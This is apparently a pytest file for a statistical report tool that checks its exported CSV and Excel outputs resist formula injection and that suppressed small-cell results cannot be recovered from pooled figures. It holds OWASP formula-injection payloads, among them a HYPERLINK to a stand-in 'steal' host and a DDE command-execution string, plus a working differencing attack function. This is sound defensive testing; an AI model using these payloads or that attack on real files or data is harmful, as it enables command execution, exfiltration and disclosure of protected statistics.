"""The shared outputs of a period report, attacked: formula injection through unit and
indicator names, and small-cell suppression undone by differencing with pooled figures."""

from __future__ import annotations

import csv
import html
import json
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from evalkit.report import build_report

#: Names a data steward could receive in an export (OWASP "CSV Injection" payloads).
PAYLOADS = {
    "unit": '=HYPERLINK("http://x.example/steal","klik")',
    "unit2": "+1+1",
    "unit3": "@SUM(A1:A9)",
    "unit4": "-2+3",
    "indicator": "=cmd|' /C calc'!A0",
}
#: With the seed-11 study, two units have 5 supervisor-rated employees in 2025Q4: they are
#: the two suppressed units of the comparison (both with enough citizens to be pooled).
MIN_CELL = 6


@pytest.fixture(scope="module")
def attacked(tmp_path_factory) -> tuple:
    """A report of a study whose unit and indicator names are formulas, written out."""
    import evalkit as ek

    study = ek.simulate(seed=11, employees=200, periods="2025Q1:2025Q4")
    units = study.units.copy()
    for i, key in enumerate(("unit", "unit2", "unit3", "unit4")):
        units.loc[i, "name"] = PAYLOADS[key]
    study.units = units
    indicators = study.indicators.copy()
    indicators.loc[0, "name"] = PAYLOADS["indicator"]
    study.indicators = indicators
    study.quarantine = pd.DataFrame(
        {
            "file": ["behaviour.csv"],
            "line": [7],
            "column": ["score"],
            "value": ["=cmd|' /C calc'!A0"],
            "reason": ["not a whole number between 1 and 5"],
        }
    )
    report = build_report(study, "2025Q4", language="en", min_cell=MIN_CELL)
    out = tmp_path_factory.mktemp("attacked")
    report.write_outputs(out)
    return study, report, out


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}


def test_workbook_holds_no_formula_and_shows_the_names_as_text(attacked):
    _, _, out = attacked
    parts = _sheet_xml(out / "tables.xlsx")
    sheets = {n: x for n, x in parts.items() if n.startswith("xl/worksheets/")}
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name
    # the names are still there, as text (inline or shared strings), escaped by XML only
    strings = html.unescape(
        "".join(x for n, x in parts.items() if "sharedStrings" in n or n in sheets)
    )
    for key in ("unit", "unit2", "unit3"):
        assert f"<t>{PAYLOADS[key]}</t>" in strings
    # and marked as text with Excel's quote prefix, so that editing keeps them text
    assert 'quotePrefix="1"' in parts["xl/styles.xml"]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(attacked):
    _, _, out = attacked
    files = [out / "quarantine.csv", out / "restricted" / "quarantine.csv"]
    files += sorted((out / "restricted").glob("*.csv"))
    seen = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                    assert not re.match(r"-[^\d.]", cell), (path, cell)
                    seen += cell.startswith("'=")
    assert seen >= 2  # the quarantined value, shared and restricted
    shared = pd.read_csv(out / "quarantine.csv", dtype=str)
    assert shared.loc[0, "value"] == "'=cmd|' /C calc'!A0"


def test_negative_numbers_stay_numbers_in_the_csv_files(attacked):
    _, _, out = attacked
    gaps = pd.read_csv(out / "restricted" / "officers_citizen_vs_supervisor.csv")
    assert pd.api.types.is_float_dtype(gaps["gap"]) and (gaps["gap"] < 0).any()


# --------------------------------------------------------------------------- differencing
Z95 = 1.959963984540054  # the Bland–Altman limits are d̄ ± z·s_d


def _solve_hidden_gaps(comparison: dict) -> list[float]:
    """The attack: the gaps of hidden units from the published per-unit gaps and the
    pooled mean gap and limits of agreement (sum and sum of squares of the gaps).

    With ``k`` pooled units not shown: ``k = 1`` is one subtraction; ``k = 2`` is a
    quadratic (sum and sum of squares give both values). More unknowns than equations
    give nothing exact (returned empty)."""
    min_n = comparison["params"]["min_citizen"]
    shown = [
        u["gap"] for u in comparison["units"] if u["gap"] is not None and u["n_citizen"] >= min_n
    ]
    ag = comparison["agreement"]
    n = ag["mean_gap"]["n_targets"]
    mean = ag["mean_gap"]["estimate"]
    sd = (ag["loa_high"]["estimate"] - ag["loa_low"]["estimate"]) / (2 * Z95)
    k = n - len(shown)
    total = n * mean - sum(shown)
    squares = (n - 1) * sd**2 + n * mean**2 - sum(g * g for g in shown)
    if k == 1:
        return [total]
    if k == 2:
        disc = max(2 * squares - total**2, 0.0)
        return [(total - disc**0.5) / 2, (total + disc**0.5) / 2]
    return []


def test_suppressed_gaps_cannot_be_solved_from_the_pooled_figures(attacked):
    """Two small units are suppressed; the pooled mean gap and limits of agreement must
    not let a reader solve their gaps from the shown ones (they did, exactly)."""
    from evalkit.compare import compare_sources
    from evalkit.report.periods import comparison_window

    study, _, out = attacked
    published = json.loads((out / "results.json").read_text(encoding="utf-8"))["comparison"]
    hidden = [u for u in published["units"] if u["suppressed"] is not None]
    assert len(hidden) == 2 and all(u["gap"] is None for u in hidden)
    truth = compare_sources(study, comparison_window(study, "2025Q4")).units.set_index("unit_id")
    secrets = [truth.loc[u["unit_id"], "gap"] for u in hidden]
    # the attack is sound: on the full data it recovers both hidden gaps exactly
    everything = {
        "params": published["params"],
        "units": [
            {"gap": g, "n_citizen": n}
            for g, n in zip(truth["gap"], truth["n_citizen"], strict=True)
            if g not in secrets
        ],
        "agreement": {
            s: {"estimate": e, "n_targets": n}
            for s, e, n in compare_sources(study, comparison_window(study, "2025Q4"))
            .agreement.query("level == 'unit'")[["statistic", "estimate", "n_targets"]]
            .itertuples(index=False)
        },
    }
    assert np.allclose(sorted(_solve_hidden_gaps(everything)), sorted(secrets), atol=1e-6)
    # the published report gives it nothing to solve
    recovered = _solve_hidden_gaps(published)
    assert not any(np.isclose(r, g, atol=0.05) for r in recovered for g in secrets)
    assert published["agreement"]["mean_gap"]["n_targets"] == len(truth) - 2
    assert published["pooled_without_units"] == sorted(u["unit_id"] for u in hidden)


def test_every_pooled_comparison_figure_is_computed_from_shown_units_only(attacked):
    """Mean gap, limits of agreement and the flags' centre come from the shown gaps."""
    _, report, out = attacked
    published = json.loads((out / "results.json").read_text(encoding="utf-8"))["comparison"]
    shown = np.array([u["gap"] for u in published["units"] if u["gap"] is not None])
    ag = published["agreement"]
    assert ag["mean_gap"]["estimate"] == pytest.approx(shown.mean(), abs=1e-6)
    half = Z95 * shown.std(ddof=1)
    assert ag["loa_high"]["estimate"] == pytest.approx(shown.mean() + half, abs=1e-6)
    assert ag["loa_low"]["estimate"] == pytest.approx(shown.mean() - half, abs=1e-6)
    assert ag["spearman_rho"]["n_targets"] == len(shown)
    assert published["offset"]["n_ratees"] < sum(
        u["n_supervisor"] for u in published["units"] if u["suppressed"] is None
    ) + sum(u["n_citizen"] for u in published["units"])
    paragraph = report.labels("text.comparison.pooled_without_hidden", units=2)
    assert paragraph in report.section("comparison").paragraphs


def test_the_pooled_figures_say_in_both_languages_what_they_leave_out():
    from evalkit.labels import Labels

    ident = Labels("id")("text.comparison.pooled_without_hidden", units=2)
    english = Labels("en")("text.comparison.pooled_without_hidden", units=2)
    assert "tanpa 2 unit" in ident and "disembunyikan" in ident and "dihitung balik" in ident
    assert "leave out the 2 units" in english and "worked back out" in english


def test_the_publish_scan_reads_every_file_outside_restricted(tmp_path):
    from evalkit.study import shared_files

    for name in ("study.html", "study.pdf", "units/U1.html", "en/tables.xlsx", "manifest.json"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x")
    (tmp_path / "restricted").mkdir()
    (tmp_path / "restricted" / "quarantine.csv").write_text("x")
    (tmp_path / "en" / "restricted").mkdir()
    (tmp_path / "en" / "restricted" / "list.csv").write_text("x")
    found = [p.relative_to(tmp_path).as_posix() for p in shared_files(tmp_path)]
    assert found == ["en/tables.xlsx", "study.html", "study.pdf", "units/U1.html"]


def test_unit_tables_beside_regency_totals_never_hide_exactly_one_unit(attacked):
    """Predikat shares and IKM per unit add up to published regency figures (the predikat
    counts, the quarter's IKM in the trend): one hidden unit would be a subtraction away,
    so a complementary unit is hidden with it."""
    _, _, out = attacked
    scoring = json.loads((out / "results.json").read_text(encoding="utf-8"))["scoring"]
    for table in ("units", "skm"):
        hidden = [u for u in scoring[table] if u["suppressed"] is not None]
        assert len(hidden) != 1, table
        kinds = {u["suppressed"] for u in hidden}
        assert kinds <= {"small_cell", "complementary"}
    units = pd.DataFrame(scoring["units"])
    assert (units["suppressed"] == "small_cell").sum() >= 1  # the check is not vacuous


def test_a_filled_collection_kit_holds_no_formula_and_reads_back_the_names(attacked, tmp_path):
    """The Excel kit (written row by row, write-only) keeps a formula-like unit name as
    text, and reading the kit back gives the name as it was."""
    from evalkit.io import load_study
    from evalkit.kit import write_template

    study, _, _ = attacked
    out = write_template(tmp_path / "kit.xlsx", data=study, fill=True)
    sheets = {n: x for n, x in _sheet_xml(out).items() if n.startswith("xl/worksheets/")}
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets.values())
    back = load_study(out)
    assert PAYLOADS["unit"] in set(back.units["name"])
    assert PAYLOADS["indicator"] in set(back.indicators["name"])
